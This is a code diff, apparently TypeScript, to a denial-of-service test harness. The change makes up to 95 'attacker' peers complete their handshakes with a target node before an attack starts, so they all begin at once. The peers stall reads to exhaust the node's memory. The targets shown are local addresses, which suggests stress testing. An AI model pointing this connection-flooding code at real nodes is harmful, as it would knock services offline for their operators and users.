@@ -12,8 +12,9 @@ export const PEERS = 95
 /** Milliseconds until a peer that was thrown out comes again. */
 const AGAIN = 50
 
-/** Milliseconds that an attacker waits for a handshake. */
+/** Milliseconds that an attacker waits for a handshake, and that all of them have before the attack. */
 const HANDSHAKE = 5_000
+const GATHERING = 10_000
 
 /** Bytes that are written at once: the rest waits with the attacker until the node takes them. */
 const SLICE = 0x40000
@@ -28,6 +29,8 @@ export class Field {
   connections = 0
   private done = false
   private moved = false
+  /** Peers whose handshake was through before the attack began. */
+  private readonly gathered = new Map<number, Socket>()
   private sent = 0
 
   constructor(target: Target) {
@@ -93,8 +96,22 @@ export class Field {
     return this.raw(this.target.rpcPort, "127.0.0.2")
   }
 
+  /** Connects peers before the attack begins, so that all of them begin at once; gives up after a while. */
+  async gather(from: From): Promise<void> {
+    const late = performance.now() + GATHERING
+    await Promise.all(Array.from({ length: PEERS }, async (_, i) => {
+      for (let socket: Socket | undefined; socket === undefined && performance.now() < late;) {
+        socket = await this.peer(from, i)
+        if (socket !== undefined) this.gathered.set(i, socket)
+      }
+    }))
+  }
+
   /** A peer whose handshake is through, and who reads nothing into memory; `undefined` where it was not let in. */
   async peer(from: From, i: number): Promise<Socket | undefined> {
+    const waiting = this.gathered.get(i)
+    this.gathered.delete(i)
+    if (waiting !== undefined && !waiting.destroyed) return waiting
     const address = this.address(from, i)
     try {
       const socket = await Promise.race([
